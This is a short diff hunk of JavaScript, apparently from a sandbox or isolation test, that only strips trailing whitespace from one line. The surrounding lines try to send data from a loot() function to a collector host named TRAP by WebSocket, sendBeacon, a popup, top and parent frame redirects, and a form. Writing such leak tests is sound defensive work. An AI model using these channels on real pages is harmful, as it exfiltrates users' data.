@@ -63,7 +63,7 @@ tries.push(settle("websocket", new Promise((ok, no) => {
         w.onerror = () => no(new Error("ws")); } catch (e) { no(e); } })));
 tries.push(settle("beacon", new Promise((ok, no) => {
   try { ok(String(navigator.sendBeacon(TRAP + "/beacon", loot()))); } catch (e) { no(e); } })));
-tries.push(settle("popup", new Promise((ok) => ok(String(window.open(TRAP + "/popup?d=" + loot())))))); 
+tries.push(settle("popup", new Promise((ok) => ok(String(window.open(TRAP + "/popup?d=" + loot()))))));
 tries.push(settle("top", new Promise((ok, no) => { try { top.location.href = TRAP + "/top?d=" + loot(); ok("no error"); } catch (e) { no(e); } })));
 tries.push(settle("parent", new Promise((ok, no) => { try { parent.location.href = TRAP + "/parent?d=" + loot(); ok("no error"); } catch (e) { no(e); } })));
 tries.push(settle("form", new Promise((ok) => {
